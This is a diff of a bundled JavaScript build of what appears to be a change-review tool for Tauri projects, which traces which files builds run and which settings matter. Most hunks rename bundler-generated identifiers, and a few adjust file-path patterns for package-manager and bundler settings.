-    const known6 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
+    const known7 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
     return {
       findings: reviewed.findings.filter((finding) => !said2.has(findingName(finding))).map((finding) => ({ ...finding, message: `${app.takesOver} ${finding.message}` })),
       narrowings: [],
-      gaps: reviewed.gaps.filter((gap3) => !known6.has(gapName(gap3)))
+      gaps: reviewed.gaps.filter((gap3) => !known7.has(gapName(gap3)))
     };
   });
 }
@@ -28388,15 +31363,15 @@ function turnedBuilds(before2, after2) {
   });
   const turned = changed.filter(({ was, is }) => is.starts > 0 && is.starts <= was.starts);
   return (base, head) => {
-    const by = turned.find(({ was, is }) => isNamed2(head, is) && !isNamed2(head, was) && !isNamed2(base, is));
+    const by = turned.find(({ was, is }) => isNamed3(head, is) && !isNamed3(head, was) && !isNamed3(base, is));
     return by && `By ${code(by.is.path)} a build makes this app now, and made another one before.`;
   };
 }
-function readingOf2({ path, text: text2 }) {
-  const lines2 = text2.split("\n").filter((line) => SETS_FOLDER.test(line));
-  return { path, starts: text2.match(STARTS2)?.length ?? 0, lines: lines2 };
+function readingOf2({ path, text: text3 }) {
+  const lines2 = text3.split("\n").filter((line) => SETS_FOLDER.test(line));
+  return { path, starts: text3.match(STARTS2)?.length ?? 0, lines: lines2 };
 }
-function isNamed2({ root }, { lines: lines2 }) {
+function isNamed3({ root }, { lines: lines2 }) {
   const folders = baseName(root) === "src-tauri" ? [root, folderOf(root)] : [root];
   return folders.some((folder) => folder !== "" && lines2.some((line) => holds4(line, folder)));
 }
@@ -28446,8 +31421,8 @@ function foldersToStartIn(apps, ...sides) {
 }
 function ignoreFiles(base, head, apps, folders) {
   const ways = folders.flatMap((folder) => foldersOnTheWay(folder, apps));
-  const names2 = new Set(ways.flatMap((folder) => IGNORE_FILES.map((name) => inFolder(folder, name))));
-  const wanted = ({ entries }) => entries.filter(({ path }) => names2.has(path));
+  const names3 = new Set(ways.flatMap((folder) => IGNORE_FILES.map((name) => inFolder(folder, name))));
+  const wanted = ({ entries }) => entries.filter(({ path }) => names3.has(path));
   return readBothSides(base.tree, head.tree, wanted(base), wanted(head));
 }
 async function buildsTurned(base, head, apps) {
@@ -28465,12 +31440,12 @@ async function buildsTurned(base, head, apps) {
 function namedBy3(app, wanted, files, { entries, contents }) {
   if (app === null) return [];
   const project = loadProject(app, filesOf(wanted, files), [], contents);
-  const names2 = [
+  const names3 = [
     projectFollows(app, project.files, contents),
     ...appReaders.flatMap((reader) => reader.follows?.(project) ?? [])
   ];
-  const known6 = new Set(wanted.map(({ path }) => path));
-  return entries.filter(({ path }) => !known6.has(path) && names2.some((isNamed4) => isNamed4(path)));
+  const known7 = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known7.has(path) && names3.some((isNamed5) => isNamed5(path)));
 }
 function filesOf(wanted, files) {
   return new Map(
@@ -28510,9 +31485,9 @@ function isAmongPages(path, apps) {
   const first = folders.find((name) => OTHERS3.has(name) || PAGES.has(name)) ?? "";
   return PAGES.has(first) && !(own !== void 0 && first === "src");
 }
-var CODE2 = /\.[cm]?[jt]sx?$/i;
+var CODE4 = /\.[cm]?[jt]sx?$/i;
 function isCode3(path) {
-  return CODE2.test(path);
+  return CODE4.test(path);
 }
 var TEST = /(?:^|\/)(?:tests?|__tests__|specs?|e2e|cypress|playwright|__mocks__|benches|benchmarks?)\/.*\.(?:[cm]?[jt]sx?|snap)$|\.(?:test|spec|bench|cy)\.[cm]?[jt]sx?$|\.snap$/i;
 function isTest(path) {
@@ -28520,7 +31495,7 @@ function isTest(path) {
 }
 
 // src/engine/file-kinds.ts
-function kindOf2(path, apps) {
+function kindOf3(path, apps) {
   return FILE_KINDS.find((kind) => kind.is(path, apps)) ?? UNKNOWN2;
 }
 var UNKNOWN2 = {
@@ -28540,8 +31515,8 @@ function namesPrograms(path) {
   );
 }
 var REPOSITORY = /^(?:\.github\/)?(?:CODEOWNERS|dependabot\.ya?ml|renovate\.json5?|\.renovaterc(?:\.json)?)$|^\.github\/(?:dependabot\.ya?ml|CODEOWNERS|renovate\.json5?)$|(?:^|\/)\.gitmodules$/;
-var BUNDLER = /(?:^|\/)(?:[^/]+\.config\.[cm]?[jt]s|\.?[\w-]+rc\.[cm]?js|gulpfile\.[cm]?[jt]s|Gruntfile\.[cm]?js|angular\.json|deno\.jsonc?|bunfig\.toml|next\.config\.json|project\.json)$/;
-var MANAGERS3 = /(?:^|\/)(?:\.yarnrc(?:\.yml)?|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|\.pnp\.[^/]+|\.yarn\/.*|deno\.lock|bun\.lockb|\.npmignore|patches\/.*\.patch)$|(?:^|\/)\.yarn\/|(?:^|\/)node_modules\//;
+var BUNDLER = /(?:^|\/)(?:[^/]+\.config\.[cm]?[jt]s|\.?[\w-]+rc\.[cm]?js|gulpfile\.[cm]?[jt]s|Gruntfile\.[cm]?js|angular\.json|deno\.jsonc?|next\.config\.json|project\.json)$/;
+var MANAGERS3 = /(?:^|\/)(?:\.yarnrc|\.pnp\.[^/]+|\.yarn\/.*|deno\.lock|bun\.lockb|\.npmignore|patches\/.*\.patch)$|(?:^|\/)\.yarn\/|(?:^|\/)node_modules\//;
 var TRANSLATIONS = /(?:^|\/)(?:locales?|i18n|lang|languages|translations?|messages|_locales)\/.*\.(?:json5?|ya?ml|toml|po|pot|ftl|properties|strings|arb|xliff)$/i;
 var TOOLS_WITH_CODE = /(?:^|\/)(?:\.(?:prettier|eslint|stylelint|babel|swc|postcss|mocha|nyc|c8|commitlint|release-it|czr?|markdownlint(?:-cli2)?|lintstaged|remark|xo-config|oxlint)rc(?:\.(?:jsonc?|json5|ya?ml|toml))?|\.czrc|\.markdownlint[^/]*\.[cm]?js|\.releaserc(?:\.(?:json|ya?ml))?|[tj]sconfig[^/]*\.json|cspell[^/]*\.[cm]?[jt]s|knip\.jsonc?|commitlint[^/]*|\.?cliff\.toml|release-plz\.toml|\.?release-it\.json|\.versionrc(?:\.json)?|\.browserslistrc|\.node-version|\.nvmrc|\.ruby-version|\.python-version|Gemfile|requirements[^/]*\.txt|pyproject\.toml)$/;
 var TOOLS_OF_EDITORS = /(?:^|\/)(?:\.editorconfig|\.[\w-]*ignore|biome\.jsonc?|rustfmt\.toml|\.rustfmt\.toml|clippy\.toml|\.clippy\.toml|components\.json|typos\.toml|_typos\.toml|\.typos\.toml|\.markdownlint[^/]*|cspell[^/]*|codecov\.yml|\.codecov\.yml|\.mailmap|\.git-blame-ignore-revs)$/;
@@ -28605,7 +31580,7 @@ var FILE_KINDS = [
     name: "settings of a package manager",
     coverage: "named",
     why: "They decide where packages come from and what of them runs.",
-    samples: [".yarnrc.yml", "pnpm-workspace.yaml", ".pnpmfile.cjs"],
+    samples: [".yarnrc", ".pnp.cjs", "patches/left.patch"],
     is: byPath(MANAGERS3)
   },
   {
@@ -28705,9 +31680,9 @@ var DECIDES2 = /\b(?:allow_directory|allow_file|forbid_directory|forbid_file|all
 var NAMED = /\b(?:const|static|let)\s+(?:mut\s+|ref\s+)?([A-Za-z_]\w{0,100})/;
 function decidingLines(texts) {
   let words3;
-  return ({ path, text: text2 }, line) => {
+  return ({ path, text: text3 }, line) => {
     if (!path.endsWith(".rs")) return false;
-    const lines2 = text2.split("\n");
+    const lines2 = text3.split("\n");
     if (DECIDES2.test(lines2.slice(Math.max(line - 3, 0), line + 1).join("\n"))) return true;
     const [, name] = NAMED.exec(lines2[line - 1] ?? "") ?? [];
     words3 ??= wordsOfCalls(texts);
@@ -28716,7 +31691,7 @@ function decidingLines(texts) {
 }
 function wordsOfCalls(texts) {
   const rust = texts.filter(({ path }) => path.endsWith(".rs"));
-  const lines2 = rust.flatMap(({ text: text2 }) => text2.split("\n")).filter((line) => DECIDES2.test(line));
+  const lines2 = rust.flatMap(({ text: text3 }) => text3.split("\n")).filter((line) => DECIDES2.test(line));
   return new Set(lines2.flatMap((line) => line.match(/\w+/g) ?? []));
 }
 
@@ -28729,12 +31704,12 @@ function mentionsOf2(texts, roots, paths3) {
   const found9 = /* @__PURE__ */ new Map();
   if (byName.size === 0) return found9;
   const decides3 = decidingLines(texts);
-  for (const text2 of texts) {
-    for (const { word: word2, line } of wordsOf3(text2)) {
-      for (const { path } of byName.get(nameIn3(word2)) ?? []) {
-        if (path === text2.path || found9.get(path)?.decides === true || isDull(path, text2.path)) continue;
-        if (!leadsTo(word2, path, text2.path, roots)) continue;
-        const mention = { by: text2.path, line, decides: decides3(text2, line) };
+  for (const text3 of texts) {
+    for (const { word: word2, line } of wordsOf3(text3)) {
+      for (const { path } of byName.get(nameIn6(word2)) ?? []) {
+        if (path === text3.path || found9.get(path)?.decides === true || isDull(path, text3.path)) continue;
+        if (!leadsTo(word2, path, text3.path, roots)) continue;
+        const mention = { by: text3.path, line, decides: decides3(text3, line) };
         if (!found9.has(path) || mention.decides) found9.set(path, mention);
       }
     }
@@ -28760,7 +31735,7 @@ function namesOf2(path) {
     ])
   ];
 }
-function nameIn3(word2) {
+function nameIn6(word2) {
   return word2.slice(word2.lastIndexOf("/") + 1);
 }
 function leadsTo(word2, path, by, roots) {
@@ -28775,29 +31750,29 @@ var UNKNOWN3 = "﷑";
 var VARIABLE4 = /\$\{?[\w.:-]{1,100}\}?|%\w{1,100}%|\{\{[^{}\n]{0,200}\}\}/g;
 var BETWEEN = /[\s"'`=,:;()<>|&[\]{}$#!*?%@]+/;
 var LONGEST_PATH4 = 4096;
-var QUOTED = /"((?:[^"\\\n]|\\.){1,4096})"?/g;
+var QUOTED2 = /"((?:[^"\\\n]|\\.){1,4096})"?/g;
 var DOCUMENTATION = /#!?\[.{0,200}\bdoc\s*=/;
 function wordsOf3(file2) {
   if (/\.(?:json5?|toml)$/.test(file2.path)) return wordsOfSettings(file2) ?? wordsOfText(file2);
   if (!file2.path.endsWith(".rs")) return wordsOfText(file2);
-  return file2.text.split("\n").flatMap((text2, i2) => {
-    if (DOCUMENTATION.test(text2)) return [];
-    return [...text2.matchAll(QUOTED)].flatMap(([, quoted4 = ""]) => wordsIn(quoted4, i2 + 1));
+  return file2.text.split("\n").flatMap((text3, i2) => {
+    if (DOCUMENTATION.test(text3)) return [];
+    return [...text3.matchAll(QUOTED2)].flatMap(([, quoted4 = ""]) => wordsIn(quoted4, i2 + 1));
   });
 }
-function wordsOfText({ text: text2 }) {
-  return text2.split("\n").flatMap((line, i2) => wordsIn(line, i2 + 1));
+function wordsOfText({ text: text3 }) {
+  return text3.split("\n").flatMap((line, i2) => wordsIn(line, i2 + 1));
 }
-function wordsIn(text2, line) {
-  return text2.replace(VARIABLE4, UNKNOWN3).split(BETWEEN).filter((word2) => word2.length > 1 && word2.length <= LONGEST_PATH4).map((word2) => ({ word: word2.replaceAll(/[\\/]+/g, "/"), line }));
+function wordsIn(text3, line) {
+  return text3.replace(VARIABLE4, UNKNOWN3).split(BETWEEN).filter((word2) => word2.length > 1 && word2.length <= LONGEST_PATH4).map((word2) => ({ word: word2.replaceAll(/[\\/]+/g, "/"), line }));
 }
 var DULL_SETTING = /^(?:icon|license(?:-?[fF]ile)?|readme|\$schema|repository|homepage)$/;
 var DULL_IN_MANIFEST = /^(?:main|module|types|typings|exports|files|browser|include|exclude)$/;
-var MANIFEST2 = /(?:^|\/)(?:package|[tj]sconfig[^/]*)\.json$|(?:^|\/)Cargo\.toml$/;
+var MANIFEST3 = /(?:^|\/)(?:package|[tj]sconfig[^/]*)\.json$|(?:^|\/)Cargo\.toml$/;
 function wordsOfSettings(file2) {
   const parsed7 = parseFile(file2, { json5: true });
   if (!parsed7.ok) return void 0;
-  const isManifest = MANIFEST2.test(file2.path);
+  const isManifest = MANIFEST3.test(file2.path);
   const found9 = [];
   const walk2 = (value) => {
     if (value.kind === "string") found9.push(...wordsIn(value.value, value.at.line));
@@ -28814,7 +31789,7 @@ function wordsOfSettings(file2) {
 }
 
 // src/tauri/builds/programs.ts
-var CODE3 = /(?:\/index)?\.[cm]?[jt]sx?$/;
+var CODE5 = /(?:\/index)?\.[cm]?[jt]sx?$/;
 function programsOf(apps, files) {
   const commands2 = new Set(
     apps.flatMap((app) => [
@@ -28822,14 +31797,14 @@ function programsOf(apps, files) {
       ...commandsOfHooks2(app, files)
     ])
   );
-  const named9 = new Set(
+  const named10 = new Set(
     [...commands2].flatMap(({ words: words3, folders: folders2 }) => words3.flatMap((w2) => pathsIn(w2, folders2)))
   );
   const started2 = new Set([...commands2].flatMap(startedBy));
-  const folders = new Set([...named9].filter((path) => CODE3.test(path)).map(folderOf));
+  const folders = new Set([...named10].filter((path) => CODE5.test(path)).map(folderOf));
   const forPrograms = new Set([...folders].filter((folder) => IS_FOR_PROGRAMS.test(folder)));
   const isBelow = (path) => withAncestors(folderOf(path)).some((folder) => forPrograms.has(folder));
-  return (path) => started2.has(path) || CODE3.test(path) && (named9.has(path) || named9.has(path.replace(CODE3, "")) || isBelow(path));
+  return (path) => started2.has(path) || CODE5.test(path) && (named10.has(path) || named10.has(path.replace(CODE5, "")) || isBelow(path));
 }
 function startedBy({ words: words3, folders }) {
   const programs2 = words3.filter((word2, i2) => startsScript(words3, i2) && (i2 > 0 || word2.includes("/")));
@@ -28849,24 +31824,24 @@ function commandsOfHooks2(app, files) {
   });
 }
 function commandsOfHook(hook, { root }, runnable, budget) {
-  const text2 = asString(hook) ?? asString(member(hook, "script"));
+  const text3 = asString(hook) ?? asString(member(hook, "script"));
   const cwd = asString(member(hook, "cwd"));
   const folders = cwd === void 0 ? [folderOf(root), root, ""] : [joined(root, cwd)];
   const start = { folders: folders.filter((folder) => folder !== null), variables: /* @__PURE__ */ new Map(), args: [[]] };
-  return text2 === void 0 ? [] : allCommandsRun(scriptAt(text2, "posix", hook.at), start, runnable, budget);
+  return text3 === void 0 ? [] : allCommandsRun(scriptAt(text3, "posix", hook.at), start, runnable, budget);
 }
 
 // src/engine/imports.ts
 var IMPORTED = /(?:\bfrom|\bimport|\brequire|\bimport\s*\(|\brequire\s*\(|\brequire\.resolve\s*\(|\bnew\s+(?:URL|Worker)\s*\()\s{0,20}["'`]([^"'`\n$]{1,4096})["'`]/g;
-var known5 = /* @__PURE__ */ new WeakMap();
+var known6 = /* @__PURE__ */ new WeakMap();
 function importsOf(file2) {
-  const imports = known5.get(file2) ?? readImports(file2);
-  known5.set(file2, imports);
+  const imports = known6.get(file2) ?? readImports(file2);
+  known6.set(file2, imports);
   return imports;
 }
-function readImports({ path, text: text2 }) {
-  const names2 = new Set([...text2.matchAll(IMPORTED)].map(([, name = ""]) => name));
-  const [relative, others] = [[...names2].filter(isRelative), [...names2].filter((name) => !isRelative(name))];
+function readImports({ path, text: text3 }) {
+  const names3 = new Set([...text3.matchAll(IMPORTED)].map(([, name = ""]) => name));
+  const [relative, others] = [[...names3].filter(isRelative), [...names3].filter((name) => !isRelative(name))];
   const ways = relative.flatMap((name) => joined(folderOf(path), name.replace(/[?#].*$/, "")) ?? []);
   return {
     paths: ways.flatMap(filesOf2),
@@ -28883,28 +31858,28 @@ function filesOf2(way) {
 }
 
 // src/engine/programs.ts
-var NOTHING5 = { base: { files: /* @__PURE__ */ new Map(), gaps: [] }, head: { files: /* @__PURE__ */ new Map(), gaps: [] } };
-var NO_PROGRAMS = { read: NOTHING5, changed: NOTHING5, isOne: () => false, isCut: false };
+var NOTHING6 = { base: { files: /* @__PURE__ */ new Map(), gaps: [] }, head: { files: /* @__PURE__ */ new Map(), gaps: [] } };
+var NO_PROGRAMS = { read: NOTHING6, changed: NOTHING6, isOne: () => false, isCut: false };
 var MOST_ROUNDS2 = 60;
-var LONGEST7 = 8 * 1024 * 1024;
-async function readPrograms(base, head, pairs, named9, changed) {
+var LONGEST11 = 8 * 1024 * 1024;
+async function readPrograms(base, head, pairs, named10, changed) {
   const sides = {
-    base: searchOf("base", base, pairs, named9.base),
-    head: searchOf("head", head, pairs, named9.head)
+    base: searchOf("base", base, pairs, named10.base),
+    head: searchOf("head", head, pairs, named10.head)
   };
-  let read7 = NOTHING5;
+  let read9 = NOTHING6;
   for (let round = 0; round < MOST_ROUNDS2; round += 1) {
-    const wanted = (side) => sides[side](read7[side]).filter((entry) => isWorthReading(entry, read7[side]));
+    const wanted = (side) => sides[side](read9[side]).filter((entry) => isWorthReading(entry, read9[side]));
     const [there2, here2] = [wanted("base"), wanted("head")];
     if (there2.length === 0 && here2.length === 0) break;
     const more = await readBothSides(base.tree, head.tree, there2, here2);
-    read7 = { base: together2(read7.base, more.base), head: together2(read7.head, more.head) };
+    read9 = { base: together2(read9.base, more.base), head: together2(read9.head, more.head) };
   }
-  const [there, here] = [sides.base(read7.base), sides.head(read7.head)];
+  const [there, here] = [sides.base(read9.base), sides.head(read9.head)];
   const paths3 = new Set([...there, ...here].map(({ path }) => path));
-  const isCut = here.some(({ path }) => isCode3(path) && !read7.head.files.has(path));
+  const isCut = here.some(({ path }) => isCode3(path) && !read9.head.files.has(path));
   return {
-    read: read7,
+    read: read9,
     changed: await readChanged(base, head, changed),
     isOne: (path) => paths3.has(path) || isCut && mayRun(path),
     isCut
@@ -28916,30 +31891,30 @@ function mayRun(path) {
 }
 async function readChanged(base, head, changed) {
   const codeOf6 = ({ listing: { entries } }) => entries.filter(({ path }) => changed.has(path) && mayRun(path));
-  const isShort = ({ size }) => size <= LONGEST7;
+  const isShort = ({ size }) => size <= LONGEST11;
   const [there, here] = [codeOf6(base), codeOf6(head)];
-  const read7 = await readBothSides(base.tree, head.tree, there.filter(isShort), here.filter(isShort));
-  const long = here.filter((entry) => !isShort(entry)).map(tooLong);
-  return { ...read7, head: { ...read7.head, gaps: [...read7.head.gaps, ...long] } };
+  const read9 = await readBothSides(base.tree, head.tree, there.filter(isShort), here.filter(isShort));
+  const long = here.filter((entry) => !isShort(entry)).map(tooLong2);
+  return { ...read9, head: { ...read9.head, gaps: [...read9.head.gaps, ...long] } };
 }
-function tooLong(entry) {
+function tooLong2(entry) {
   const message = `${code(entry.path)} changed, and is longer than what is read of a program: look at whether a build runs it, and what it writes.`;
   return gapIn(entry.path, { kind: "truncated", rests: contentOf(entry), message });
 }
 function isWorthReading({ path, size }, { files, gaps }) {
-  return size <= LONGEST7 && !files.has(path) && !gaps.some((gap3) => gap3.path === path);
+  return size <= LONGEST11 && !files.has(path) && !gaps.some((gap3) => gap3.path === path);
 }
 function searchOf(side, { listing: { entries } }, pairs, { files }) {
   const apps = [...new Set(pairs.flatMap((pair) => pair[side] ?? []))];
   const isStarted = programsOf(apps, files);
   const folders = packageFolders(files);
   const roots = entries.filter(({ path }) => namesPrograms(path) || isStarted(path));
-  return (read7) => {
-    const programs2 = [...read7.files.values()].filter(({ path }) => isCode3(path) && !isTest(path));
+  return (read9) => {
+    const programs2 = [...read9.files.values()].filter(({ path }) => isCode3(path) && !isTest(path));
     const imports = programs2.map(importsOf);
     const paths3 = new Set(imports.flatMap((each) => each.paths));
-    const names2 = new Set(imports.flatMap((each) => each.packages));
-    const taken3 = new Set([...names2].flatMap((name) => folders.get(name) ?? []));
+    const names3 = new Set(imports.flatMap((each) => each.packages));
+    const taken3 = new Set([...names3].flatMap((name) => folders.get(name) ?? []));
     const isTaken = (path) => paths3.has(path) || taken3.size > 0 && withAncestors(folderOf(path)).some((each) => taken3.has(each));
     return [.../* @__PURE__ */ new Set([...roots, ...entries.filter(({ path }) => isTaken(path) && !isTypes(path))])];
   };
@@ -28979,13 +31954,13 @@ function mayNameFiles(path, app) {
   return isWanted(path, app, NAMING) || path !== app.config && isWanted(path, app, CONFIG);
 }
 var CONFIG = /* @__PURE__ */ new Set(["config"]);
-var CODE4 = /* @__PURE__ */ new Set(["code"]);
+var CODE6 = /* @__PURE__ */ new Set(["code"]);
 var NOT_CODE = new Set(FILE_ROLES.filter((role) => role !== "code"));
 function wantedBy(app, entries) {
   return app === null ? [] : entries.filter(({ path }) => isWanted(path, app, NOT_CODE));
 }
 function codeOf4(app, entries) {
-  return app === null ? [] : entries.filter(({ path }) => isWanted(path, app, CODE4));
+  return app === null ? [] : entries.filter(({ path }) => isWanted(path, app, CODE6));
 }
 function isUntouched(base, head, from, to) {
   if (base.length !== head.length) return false;
@@ -28995,10 +31970,10 @@ function isUntouched(base, head, from, to) {
 }
 
 // src/engine/named-changes.ts
-var NOTHING6 = { files: /* @__PURE__ */ new Map(), gaps: [] };
+var NOTHING7 = { files: /* @__PURE__ */ new Map(), gaps: [] };
 var NOT_ASKED3 = {
   named: /* @__PURE__ */ new Set(),
-  read: { base: NOTHING6, head: NOTHING6 },
+  read: { base: NOTHING7, head: NOTHING7 },
   programs: NO_PROGRAMS,
   mentions: /* @__PURE__ */ new Map()
 };
@@ -29006,44 +31981,44 @@ var MOST_ROUNDS3 = 20;
 async function namedChanges(base, head, pairs, changed) {
   const apps = pairs.flatMap((pair) => [pair.base, pair.head].flatMap((app) => app ?? []));
   const doubtful = [...changed].filter((path) => !mayBeNamed(path));
-  const asked2 = [...changed].filter((path) => isAsked(path, apps));
-  if (pairs.length === 0 || doubtful.length === 0 && asked2.length === 0) return NOT_ASKED3;
-  const { read: read7, isCut } = await readWhatNames(base, head, pairs);
-  const programs2 = await readPrograms(base, head, pairs, read7, changed);
+  const asked3 = [...changed].filter((path) => isAsked(path, apps));
+  if (pairs.length === 0 || doubtful.length === 0 && asked3.length === 0) return NOT_ASKED3;
+  const { read: read9, isCut } = await readWhatNames(base, head, pairs);
+  const programs2 = await readPrograms(base, head, pairs, read9, changed);
   const roots = [...new Set(apps.map(({ root }) => root))];
-  const mayName = mentionedIn(textsOf2(read7), roots);
-  const mentions = mentionsOf2(textsOf2(read7, programs2.read), roots, asked2);
-  return { named: new Set(doubtful.filter((path) => isCut || mayName(path))), read: read7, programs: programs2, mentions };
+  const mayName = mentionedIn(textsOf2(read9), roots);
+  const mentions = mentionsOf2(textsOf2(read9, programs2.read), roots, asked3);
+  return { named: new Set(doubtful.filter((path) => isCut || mayName(path))), read: read9, programs: programs2, mentions };
 }
 function isAsked(path, apps) {
   if (mayRun(path)) return true;
-  const kind = kindOf2(path, apps);
+  const kind = kindOf3(path, apps);
   return kind.coverage === "irrelevant" || kind === UNKNOWN2;
 }
-function textsOf2(...read7) {
-  return [...new Set(read7.flatMap(({ base, head }) => [...base.files.values(), ...head.files.values()]))];
+function textsOf2(...read9) {
+  return [...new Set(read9.flatMap(({ base, head }) => [...base.files.values(), ...head.files.values()]))];
 }
-function withNamed(side, named9) {
-  if (named9.size === 0) return side;
-  const added = side.listing.entries.filter(({ path }) => named9.has(path));
+function withNamed(side, named10) {
+  if (named10.size === 0) return side;
+  const added = side.listing.entries.filter(({ path }) => named10.has(path));
   return { ...side, entries: [...side.entries, ...added] };
 }
 async function readWhatNames(base, head, pairs) {
-  let read7 = { base: NOTHING6, head: NOTHING6 };
+  let read9 = { base: NOTHING7, head: NOTHING7 };
   for (let round = 0; round < MOST_ROUNDS3; round += 1) {
-    const [there, here] = [unread2("base", base, read7.base, pairs), unread2("head", head, read7.head, pairs)];
-    if (there.length === 0 && here.length === 0) return { read: read7, isCut: false };
+    const [there, here] = [unread2("base", base, read9.base, pairs), unread2("head", head, read9.head, pairs)];
+    if (there.length === 0 && here.length === 0) return { read: read9, isCut: false };
     const more = await readBothSides(base.tree, head.tree, there, here);
-    read7 = { base: together2(read7.base, more.base), head: together2(read7.head, more.head) };
+    read9 = { base: together2(read9.base, more.base), head: together2(read9.head, more.head) };
   }
-  return { read: read7, isCut: true };
+  return { read: read9, isCut: true };
 }
 function unread2(side, { entries }, { files, gaps }, pairs) {
   const failed2 = new Set(gaps.map(({ path }) => path));
   const apps = [...new Set(pairs.flatMap((pair) => pair[side] ?? []))];
-  const names2 = apps.map((app) => namesOthers(app, files));
+  const names3 = apps.map((app) => namesOthers(app, files));
   return entries.filter(
-    ({ path }) => !files.has(path) && !failed2.has(path) && names2.some((isOne) => isOne(path))
+    ({ path }) => !files.has(path) && !failed2.has(path) && names3.some((isOne) => isOne(path))
   );
 }
 function namesOthers(app, files) {
@@ -29053,14 +32028,14 @@ function namesOthers(app, files) {
   return (path) => path === app.config || mayNameFiles(path, app) || isOfCrate2(path) || /Cargo\.toml$/.test(path) && isOfCargo(path);
 }
 var BETWEEN2 = /[\s"'`/\\=:,;()<>|&[\]{}$#]+/;
-var QUOTED2 = /"((?:[^"\\\n]|\\.){1,4096})"?/g;
+var QUOTED3 = /"((?:[^"\\\n]|\\.){1,4096})"?/g;
 function mentionedIn(texts, roots) {
   const words3 = /* @__PURE__ */ new Set();
   const folders = /* @__PURE__ */ new Set();
-  for (const { path, text: text2 } of texts) {
-    for (const word2 of text2.split(BETWEEN2)) words3.add(word2);
+  for (const { path, text: text3 } of texts) {
+    for (const word2 of text3.split(BETWEEN2)) words3.add(word2);
     if (!path.endsWith(".rs")) continue;
-    for (const [, quoted4 = ""] of text2.matchAll(QUOTED2)) {
+    for (const [, quoted4 = ""] of text3.matchAll(QUOTED3)) {
       words3.add(quoted4.replace(/^.*[/\\]/, ""));
       for (const from of [folderOf(path), ...roots]) {
         const folder = joined(from, quoted4.replace(/^[/\\]+/, ""));
@@ -29082,52 +32057,52 @@ async function gather(before2, after2, pairs, changed) {
     after2,
     pairs.map((pair) => wantedOf3(pair, before2, after2)).filter((each) => !untouched(each)).map((each) => withCode(each, before2, after2))
   );
-  const names2 = await namedChanges(before2, after2, pairs, changed);
-  const { named: named9, read: asked2 } = names2;
-  const [base, head] = [withNamed(before2, named9), withNamed(after2, named9)];
+  const names3 = await namedChanges(before2, after2, pairs, changed);
+  const { named: named10, read: asked3 } = names3;
+  const [base, head] = [withNamed(before2, named10), withNamed(after2, named10)];
   const anyMoved = [base, head].some(
     ({ listing }) => listing.unfollowed.some(({ path }) => changed.has(path))
   );
-  let looked = pairs.map((pair) => wantedOf3(pair, base, head)).filter((each) => anyMoved || !untouched(each) || mayNameOneOf(each, changed, named9, [base, head])).map((each) => withCode(each, base, head));
+  let looked = pairs.map((pair) => wantedOf3(pair, base, head)).filter((each) => anyMoved || !untouched(each) || mayNameOneOf(each, changed, named10, [base, head])).map((each) => withCode(each, base, head));
   const first = await readApps(
     base,
     head,
-    looked.map((each) => unread3(each, asked2))
+    looked.map((each) => unread3(each, asked3))
   );
-  let read7 = { base: together2(asked2.base, first.base), head: together2(asked2.head, first.head) };
+  let read9 = { base: together2(asked3.base, first.base), head: together2(asked3.head, first.head) };
   let isCut = false;
   for (let round = 0; round < MOST_ROUNDS4; round += 1) {
-    const { base: there, head: here } = read7;
-    const followed = looked.map((each) => withNamedBy(each, read7, base, head));
-    const isAll = sizeOf2(followed) === sizeOf2(looked);
+    const { base: there, head: here } = read9;
+    const followed = looked.map((each) => withNamedBy(each, read9, base, head));
+    const isAll = sizeOf3(followed) === sizeOf3(looked);
     looked = followed;
     isCut = !isAll;
     if (isAll) break;
     const more = await readApps(
       base,
       head,
-      followed.map((each) => unread3(each, read7))
+      followed.map((each) => unread3(each, read9))
     );
-    read7 = { base: together2(there, more.base), head: together2(here, more.head) };
+    read9 = { base: together2(there, more.base), head: together2(here, more.head) };
   }
   if (isCut) {
-    looked = looked.map((each) => withNamedBy(each, read7, base, head));
-    read7 = {
-      base: { ...read7.base, gaps: [...read7.base.gaps, ...tooFar(looked, "base", read7.base, base)] },
-      head: { ...read7.head, gaps: [...read7.head.gaps, ...tooFar(looked, "head", read7.head, head)] }
+    looked = looked.map((each) => withNamedBy(each, read9, base, head));
+    read9 = {
+      base: { ...read9.base, gaps: [...read9.base.gaps, ...tooFar(looked, "base", read9.base, base)] },
+      head: { ...read9.head, gaps: [...read9.head.gaps, ...tooFar(looked, "head", read9.head, head)] }
     };
   }
   return {
-    touched: looked.filter((each) => anyMoved || isCut || !untouched(each) || runsTooMuch(each.pair.head, read7.head.files)).map(({ pair }) => pair),
-    ...read7,
-    names: names2
+    touched: looked.filter((each) => anyMoved || isCut || !untouched(each) || runsTooMuch(each.pair.head, read9.head.files)).map(({ pair }) => pair),
+    ...read9,
+    names: names3
   };
 }
-function withNamedBy({ pair, base, head }, read7, before2, after2) {
+function withNamedBy({ pair, base, head }, read9, before2, after2) {
   return {
     pair,
-    base: [...base, ...namedBy3(pair.base, base, read7.base.files, before2)],
-    head: [...head, ...namedBy3(pair.head, head, read7.head.files, after2)]
+    base: [...base, ...namedBy3(pair.base, base, read9.base.files, before2)],
+    head: [...head, ...namedBy3(pair.head, head, read9.head.files, after2)]
   };
 }
 function wantedOf3(pair, { entries: there }, { entries: here }) {
@@ -29149,11 +32124,11 @@ function withCode({ pair, base, head }, { entries: there }, { entries: here }) {
     head: oncePerPath([...head, ...codeOf4(pair.head, here)])
   };
 }
-function mayNameOneOf({ pair, base, head }, changed, named9, sides) {
+function mayNameOneOf({ pair, base, head }, changed, named10, sides) {
   const own = new Set([...base, ...head].map(({ path }) => path));
   const apps = [pair.base, pair.head].filter((app) => app !== null);
   const namesFiles = (path) => apps.some((app) => mayNameFiles(path, app));
-  return [...changed].some((path) => !own.has(path) && (named9.has(path) || mayBeNamed(path))) && sides.some(({ entries }) => entries.some(({ path }) => namesFiles(path)));
+  return [...changed].some((path) => !own.has(path) && (named10.has(path) || mayBeNamed(path))) && sides.some(({ entries }) => entries.some(({ path }) => namesFiles(path)));
 }
 function untouched({ pair, base, head }) {
   return pair.base !== null && pair.head !== null && isUntouched(base, head, pair.base, pair.head);
@@ -29166,7 +32141,7 @@ function readApps({ tree: base }, { tree: head }, apps) {
     oncePerPath(apps.flatMap((each) => each.head))
   );
 }
-function sizeOf2(looked) {
+function sizeOf3(looked) {
   return looked.reduce((size, { base, head }) => size + base.length + head.length, 0);
 }
 function unread3({ base, head }, first) {
